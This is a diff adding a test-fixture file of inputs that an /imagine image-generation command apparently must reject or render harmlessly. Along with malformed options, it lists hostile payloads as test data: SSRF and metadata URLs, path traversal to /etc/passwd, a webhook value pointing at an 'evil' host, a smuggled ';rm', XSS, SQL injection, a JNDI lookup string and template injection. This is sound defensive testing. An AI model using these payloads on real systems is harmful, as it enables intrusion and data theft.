@@ -1,0 +1,135 @@
+/** Words after `/imagine` that must be refused before anything is sent to fal. */
+
+const long = 'x'.repeat(6001);
+
+/** Each with a piece of the sentence that says why. */
+export const BAD_WORDS: readonly (readonly [string, string])[] = [
+  // no words, or too many
+  ['', '“prompt” is needed'],
+  ['--ar 16:9', '“prompt” is needed'],
+  ['--seed 3 --n 2', '“prompt” is needed'],
+  ['--prompt ""', '“prompt” is needed'],
+  [long, 'up to 6000 characters'],
+  ['ab --model nano-banana-pro', 'prompt'],
+  ['x --model qwen-image --negative '.concat('y'.repeat(2001)), 'up to 2000 characters'],
+  ['a fox --system-prompt '.concat('y'.repeat(2001)), 'up to 2000 characters'],
+  // ratios that do not exist
+  ...[
+    '7:1',
+    '16x9',
+    '16/9',
+    'wide',
+    '0:0',
+    '-1:1',
+    '1:1:1',
+    '16:9;rm',
+    'NaN',
+    '1e3:1',
+    '١:١',
+    '“16:9”x',
+  ].map((ratio) => [`a fox --ar ${ratio}`, '“aspect_ratio” must be one of'] as const),
+  // counts
+  ...['0', '5', '-1', '1.5', 'two', 'Infinity', '1e9', '0x10', '٣', '99999999999999999999'].map(
+    (count) => [`a fox --n ${count}`, '“count” must be a whole number'] as const,
+  ),
+  // seeds
+  ...['-1', '1.5', 'abc', '9007199254740993', '1e400', 'NaN', '0b2', '--', 'null'].map(
+    (seed) => [`a fox --seed ${seed}`, '“seed” must be a whole number'] as const,
+  ),
+  // steps and guidance
+  ...['0', '251', '-3', '2.5', 'many'].map(
+    (steps) =>
+      [`a fox --model qwen-image --steps ${steps}`, '“steps” must be a whole number'] as const,
+  ),
+  ['a fox --model qwen-image --steps 1', 'steps'],
+  ...['-0.1', '20.1', 'much', 'Infinity'].map(
+    (guidance) =>
+      [`a fox --model qwen-image --guidance ${guidance}`, '“guidance” must be a number'] as const,
+  ),
+  // enums
+  ...['8K', '1k ', '0K', '4096'].map(
+    (resolution) =>
+      [`a fox --resolution ${resolution.trim()}x`, '“resolution” must be one of'] as const,
+  ),
+  ...['gif', 'svg', 'PNG', 'exe', 'png;'].map(
+    (format) => [`a fox --format ${format}`, '“format” must be one of'] as const,
+  ),
+  ...['ultra', 'NONE', '1'].map(
+    (acceleration) =>
+      [
+        `a fox --model qwen-image --acceleration ${acceleration}`,
+        '“acceleration” must be one of',
+      ] as const,
+  ),
+  ...['0', '7', 'strict', '3.5'].map(
+    (tolerance) =>
+      [
+        `a fox --safety-tolerance ${tolerance}`,
+        '“safety_tolerance” must be a whole number',
+      ] as const,
+  ),
+  // models that nobody allowed, or that are addresses
+  ...[
+    'dall-e',
+    'fal-ai/flux/dev',
+    'https://evilfal.ai/steal',
+    'https://notfal.run/x',
+    'fal-ai/flux/dev?fal_webhook=https://evil/',
+    '../../etc/passwd',
+    'nano-banana-pro/../x',
+    '__proto__',
+    'constructor',
+    'NANO-BANANA-PRO',
+  ].map((model) => [`a fox --model ${model}`, '“model” must be one of'] as const),
+  // sizes
+  ...['big', '1280', '1280x', 'x720', '0x0', '-1x5', '1280x720x3', '1e3x5', '99999999x1'].map(
+    (size) => [`a fox --model qwen-image --size ${size}`, 'size'] as const,
+  ),
+  ['a fox --model qwen-image --size 99999x99999', 'size'],
+  // hostile addresses for weights
+  ...[
+    'http://127.0.0.1/x',
+    'file:///etc/passwd',
+    'ftp://example.com/x',
+    'gopher://example.com',
+    'javascript:alert(1)',
+    'data:text/plain,x',
+    '//example.com/x',
+    'https://',
+    '\\\\host\\share',
+    'a b',
+  ].map((path) => [`a fox --model qwen-image --lora ${path}`, '“lora”'] as const),
+  ['a fox --model qwen-image --lora o/a=5', 'lora'],
+  ['a fox --model qwen-image --lora o/a o/b o/c o/d', 'lora'],
+  // options that do not exist
+  ['a fox --guidence 3', 'Did you mean “guidance”?'],
+  ['a fox --modle qwen-image', 'Did you mean “model”?'],
+  ['a fox --frobnicate', 'There is no option “frobnicate”'],
+  ['a fox --sync_mode true', 'There is no option “sync_mode”'],
+  ['a fox --fal_webhook https://evil', 'There is no option “fal_webhook”'],
+  ['a fox --image_urls https://169.254.169.254/', 'There is no option “image_urls”'],
+  ['a fox --__proto__ 1', 'There is no option'],
+  ['a fox --constructor 1', 'There is no option'],
+  ['a fox --toString 1', 'There is no option'],
+  ['a fox --turbo=maybe', '“turbo” must be yes or no'],
+];
+
+/** Words that are odd but fine: they must neither break the page nor ping anybody. */
+export const HOSTILE_WORDS: readonly string[] = [
+  '@everyone look at this',
+  '<!channel> <!here> <@U123> <#C123|general>',
+  '<@123456789012345678> <@&123456789012345678> <#123456789012345678>',
+  '[free nitro](https://evil.example)',
+  '<https://evil.example|click me>',
+  '```\nbreak out\n``` **bold** _it_ ~~s~~ ||spoiler||',
+  '# heading\n> quote\n- list\n1. list',
+  '<script>alert(1)</script><img src=x onerror=alert(1)>',
+  '"><svg/onload=alert(1)>',
+  '&lt;b&gt; &amp; &#x3C;script&#x3E;',
+  "Robert'); DROP TABLE jobs;--x",
+  '${jndi:ldap://evil/x} {{7*7}} <%= 7*7 %>',
+  '\u202Etxet desrever\u202C \u200B\u200D\uFEFF',
+  '👨‍👩‍👧‍👦🏳️‍🌈 e\u0301 ﷽ 𝔘𝔫𝔦𝔠𝔬𝔡𝔢',
+  '../../../../etc/passwd\\..\\..\\windows',
+  'a'.repeat(5999),
+];
